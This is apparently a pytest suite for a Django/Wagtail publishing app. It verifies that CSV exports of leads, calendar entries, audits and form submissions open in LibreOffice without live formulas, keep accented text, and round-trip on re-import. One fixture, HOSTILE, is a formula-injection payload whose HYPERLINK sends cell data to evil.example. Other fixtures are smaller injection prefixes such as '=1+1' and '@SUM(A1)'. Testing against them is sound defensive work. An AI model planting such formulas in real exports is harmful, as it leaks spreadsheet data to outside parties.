"""Every CSV Masthead writes is safe to open in a spreadsheet: no live formulas, accents intact.

Each export is opened the way Sales and editors open it: LibreOffice reads the file as a spreadsheet
with formulas evaluated (as Excel does) and saves it as .xlsx, where a formula cell and a garbled name
would both show. Every file also starts with a byte-order mark, without which Excel reads UTF-8 as the
local code page (LibreOffice run headless takes the character set from its filter options instead).

Files also come back: the calendar's export, re-saved by LibreOffice as comma or semicolon CSV,
imports as updates of the same entries, with every cell as it was.
"""

import csv
import datetime
import io
import os
import re
import shutil
import subprocess

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from wagtail.contrib.forms.models import FormSubmission

from buyingstages.audience.models import Lead, MinimalFormPage
from buyingstages.common.spreadsheets import (
    BYTE_ORDER_MARK,
    csv_text,
    decode_text,
    heading_key,
    read_cell,
    safe_cell,
    sniff_dialect,
)
from publishing.calendar.exchange import export_entries, import_entries
from publishing.calendar.models import CalendarEntry
from tests.factories import (
    AssetPageFactory,
    CalendarEntryFactory,
    CampaignFactory,
    PersonaFactory,
    SegmentFactory,
    TopicFactory,
)
from tests.people import as_a_person

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A2,"Open the brief")'
ACCENTED = "Zoë Müller-Ñúñez"
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
# LibreOffice's CSV filter: comma, double quote, UTF-8 (76), from line 1, and (the 13th token)
# formulas evaluated on import, as Excel always does.
CSV_IMPORT = "CSV:44,34,76,1,,,false,false,false,false,false,false,true"
# LibreOffice's own defaults for the rest, as a person opening the file gets them: "detect special
# numbers" on, without which only ISO dates with a "T" before the time are read as dates.
CSV_OPEN = "CSV:44,34,76,1"


def libreoffice(data, tmp_path, convert_to, extension, infilter=CSV_IMPORT):
    """The CSV opened in LibreOffice (as `infilter` says) and saved with `convert_to`: its bytes."""
    if SOFFICE is None:
        message = "opening the exports needs LibreOffice (apt-get install libreoffice-calc-nogui)"
        if os.environ.get("CI"):
            pytest.fail(f"{message}; .ci/run installs it")
        pytest.skip(message)
    source, saved = tmp_path / "export.csv", tmp_path / "saved"
    source.write_bytes(data)
    subprocess.run(  # noqa: S603
        [SOFFICE, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
         f"--infilter={infilter}", "--convert-to", convert_to, "--outdir", str(saved), str(source)],
        check=True, capture_output=True, timeout=180, env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"},
    )  # fmt: skip
    return (saved / f"export.{extension}").read_bytes()


def sheet_in_libreoffice(data, tmp_path, infilter=CSV_IMPORT):
    """The CSV as LibreOffice reads it, as an openpyxl worksheet."""
    xlsx = libreoffice(data, tmp_path, "xlsx", "xlsx", infilter)
    return openpyxl.load_workbook(io.BytesIO(xlsx)).active


def resaved_by_libreoffice(data, tmp_path, separator, infilter=CSV_IMPORT):
    """The CSV opened in LibreOffice and saved again as CSV (UTF-8) split by `separator`."""
    convert_to = f"csv:Text - txt - csv (StarCalc):{ord(separator)},34,76,1"
    return libreoffice(data, tmp_path, convert_to, "csv", infilter)


def opened_in_libreoffice(data, tmp_path):
    """The CSV as LibreOffice reads it: every cell's (value, is a formula)."""
    sheet = sheet_in_libreoffice(data, tmp_path)
    return [(cell.value, cell.data_type == "f") for row in sheet.iter_rows() for cell in row]


def assert_safe(data, tmp_path):
    assert data.startswith(BYTE_ORDER_MARK.encode())
    cells = opened_in_libreoffice(data, tmp_path)
    assert not [value for value, formula in cells if formula], "a cell became a formula"
    texts = [str(value) for value, _ in cells if value is not None]
    assert any("HYPERLINK" in text for text in texts)
    assert any(ACCENTED in text for text in texts), f"the accents did not survive: {texts}"


def streamed(response):
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_the_leads_export(client, make_user, tmp_path):
    Lead.objects.create(name=HOSTILE, email="x@example.com").mark_sales_ready("Read the pricing")
    Lead.objects.create(name=ACCENTED, email="zoe@example.com").mark_sales_ready("Read it all")
    client.force_login(make_user("Sales"))

    assert_safe(
        streamed(client.get("/admin/sales/inbox/", {"state": "all", "export": "csv"})), tmp_path
    )


def test_the_content_audit_export(editor_client, library, stages, tmp_path):
    AssetPageFactory(parent=library, stage=stages[1], title=HOSTILE)
    AssetPageFactory(parent=library, stage=stages[1], title=ACCENTED)

    assert_safe(
        streamed(editor_client.get("/admin/reports/content-audit/", {"export": "csv"})), tmp_path
    )


def test_the_calendar_export(editor_client, stages, tmp_path):
    CalendarEntryFactory(title=HOSTILE, brief="-1 if it slips", stage=stages[0])
    CalendarEntryFactory(title=ACCENTED, stage=stages[0])

    assert_safe(streamed(editor_client.get("/admin/calendar/export/")), tmp_path)


def test_a_form_s_submissions_export(editor_client, client, home, tmp_path):
    page = home.add_child(instance=MinimalFormPage(title="E-mail me this", slug="email-me-this"))
    for name in (HOSTILE, ACCENTED):
        client.post(
            page.url, as_a_person({"name": name, "email": "someone@example.com", "consent": "on"})
        )
    assert FormSubmission.objects.count() == 2

    export = editor_client.get(f"/admin/forms/submissions/{page.pk}/", {"export": "csv"})
    assert_safe(streamed(export), tmp_path)


def test_the_calendar_reads_its_own_export_back_as_it_was(stages):
    for title in (HOSTILE, "+44 launch", "@mention plan", ACCENTED):
        CalendarEntryFactory(title=title, stage=stages[0])
    exported = export_entries(CalendarEntry.objects.order_by("pk"))
    CalendarEntry.objects.all().delete()
    without_ids = "\n".join(line.partition(",")[2] for line in exported.splitlines())

    count, errors = import_entries(without_ids.encode())

    assert (count, errors) == (4, [])
    titles = list(CalendarEntry.objects.order_by("pk").values_list("title", flat=True))
    assert titles == [HOSTILE, "+44 launch", "@mention plan", ACCENTED]


def test_a_spreadsheet_reads_the_calendar_s_times_as_dates(
    editor_client, stages, tmp_path, settings
):
    settings.TIME_ZONE = "Europe/Paris"
    CalendarEntryFactory(
        title="Dated",
        stage=stages[0],
        publish_at=timezone.make_aware(datetime.datetime(2026, 12, 3, 14, 30, 59, 999)),
        draft_due=datetime.date(2026, 11, 25),
    )

    export = streamed(editor_client.get("/admin/calendar/export/"))

    headings, row = openpyxl_rows = list(
        sheet_in_libreoffice(export, tmp_path, CSV_OPEN).iter_rows()
    )
    cells = dict(zip((cell.value for cell in headings), row, strict=True))
    assert b",2026-12-03 14:30,2026-11-25," in export
    assert cells["publish_at"].is_date and cells["draft_due"].is_date, openpyxl_rows
    assert cells["publish_at"].value == datetime.datetime(2026, 12, 3, 14, 30)
    assert cells["draft_due"].value == datetime.datetime(2026, 11, 25)


@pytest.mark.parametrize("infilter", [CSV_IMPORT, CSV_OPEN], ids=["formulas on", "defaults"])
@pytest.mark.parametrize("separator", [",", ";"], ids=["comma", "semicolon"])
def test_an_export_resaved_by_libreoffice_imports_as_updates_not_copies(
    editor_client, stages, make_user, tmp_path, separator, infilter
):
    owner = make_user("Editors", "ed")
    personas = [PersonaFactory(name="Head of Data"), PersonaFactory(name="CIO")]
    CalendarEntryFactory(
        title='Recap of the "Plant data" webinar, slides attached',
        brief="Slides; recording\nand a Q&A, with “quotes”",
        stage=stages[2],
        personas=personas,
        topics=[TopicFactory(name="Governance")],
        owner=owner,
        length="long",
        publish_at=timezone.make_aware(datetime.datetime(2026, 12, 3, 14, 30)),
        draft_due=datetime.date(2026, 11, 25),
        is_open_slot=True,
        campaign=CampaignFactory(name="Spring launch; “quoted”", slug="spring-launch"),
    ).segments.set([SegmentFactory(name="Retail"), SegmentFactory(name="Public sector")])
    for title in (HOSTILE, "+44 launch", "@mention plan", ACCENTED, "'90s retro"):
        CalendarEntryFactory(title=title, brief="-1 if it slips", stage=stages[0])
    for number in range(12):
        CalendarEntryFactory(title=f"Piece {number}", stage=None, format="")
    export = streamed(editor_client.get("/admin/calendar/export/"))

    resaved = resaved_by_libreoffice(export, tmp_path, separator, infilter)

    preview = upload(editor_client, resaved)
    assert preview.status_code == 200, preview.content.decode()
    assert "0 to create, 0 to update, 18 unchanged, 0 refused" in preview.content.decode()

    edited = resaved.replace(ACCENTED.encode(), f"{ACCENTED} (revised)".encode())
    token = apply_token(upload(editor_client, edited))
    assert editor_client.post("/admin/calendar/import/", {"preview": token}).status_code == 302
    assert CalendarEntry.objects.count() == 18
    assert CalendarEntry.objects.filter(title=f"{ACCENTED} (revised)").count() == 1
    assert streamed(editor_client.get("/admin/calendar/export/")) == export.replace(
        ACCENTED.encode(), f"{ACCENTED} (revised)".encode()
    )


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'=1", "plain", ""]
)
def test_a_cell_reads_back_as_it_was_written(text):
    assert read_cell(safe_cell(text)) == text


def test_csv_text_is_read_by_python_s_csv_module_too():
    text = csv_text(["name"], [[HOSTILE], [ACCENTED], [3]])
    rows = list(csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK))))
    assert rows == [["name"], ["'" + HOSTILE], [ACCENTED], ["3"]]


def upload(client, data):
    return client.post(
        "/admin/calendar/import/",
        {"file": SimpleUploadedFile("plan.csv", data, content_type="text/csv")},
    )


def apply_token(response):
    found = re.search(r'name="preview" value="([^"]+)"', response.content.decode())
    assert found, response.content.decode()
    return found.group(1)


@pytest.mark.parametrize(
    ("data", "text"),
    [
        (BYTE_ORDER_MARK.encode() + ACCENTED.encode(), ACCENTED),
        (ACCENTED.encode(), ACCENTED),
        ("Zoë – “€”".encode("cp1252"), "Zoë – “€”"),
        ("\ufeffZoë".encode("utf-16"), "Zoë"),
        (b"caf\xe9 \x81", "café \x81"),  # a byte Windows-1252 leaves undefined
    ],
    ids=["utf-8 with mark", "utf-8", "windows-1252", "utf-16", "latin-1"],
)
def test_a_spreadsheet_s_file_is_decoded_whatever_its_character_set(data, text):
    assert decode_text(data).removeprefix(BYTE_ORDER_MARK) == text


def test_the_header_row_decides_the_delimiter_where_the_sniffer_guesses_wrong():
    text = (
        "title,brief,stage\r\n"
        '"Recap of the ""Plant data"" webinar, slides attached","Slides, recording",Awareness\r\n'
    )

    rows = list(csv.reader(io.StringIO(text, newline=""), sniff_dialect(text, ["title", "stage"])))

    assert rows[1] == [
        'Recap of the "Plant data" webinar, slides attached',
        "Slides, recording",
        "Awareness",
    ]


@pytest.mark.parametrize(
    ("text", "delimiter"),
    [("a;b\n1;2\n", ";"), ("a\tb\n1\t2\n", "\t"), ("a,b\n1,2\n", ","), ("a\n1\n", ",")],
)
def test_without_known_headings_the_sniffer_picks_among_comma_semicolon_and_tab(text, delimiter):
    assert sniff_dialect(text).delimiter == delimiter


def test_headings_match_however_they_are_written():
    assert {heading_key(text) for text in ("Publish at", "publish-at", " PUBLISH_AT ")} == {
        "publish_at"
    }


def test_a_spreadsheet_reads_the_leads_times_as_dates(client, make_user, tmp_path, settings):
    settings.TIME_ZONE = "Europe/Paris"
    lead = Lead.objects.create(name="Ana Ruiz", email="ana@example.com")
    Lead.objects.filter(pk=lead.pk).update(
        created_at=timezone.make_aware(datetime.datetime(2026, 12, 3, 14, 30, 59, 999))
    )
    client.force_login(make_user("Sales"))

    export = streamed(client.get("/admin/sales/inbox/", {"state": "all", "export": "csv"}))

    assert b"2026-12-03 14:30:59," in export and b"+00:00" not in export
    headings, row = list(sheet_in_libreoffice(export, tmp_path, CSV_OPEN).iter_rows())
    cells = dict(zip((cell.value for cell in headings), row, strict=True))
    created = next(cell for heading, cell in cells.items() if "reated" in str(heading))
    assert created.is_date and created.value == datetime.datetime(2026, 12, 3, 14, 30, 59)
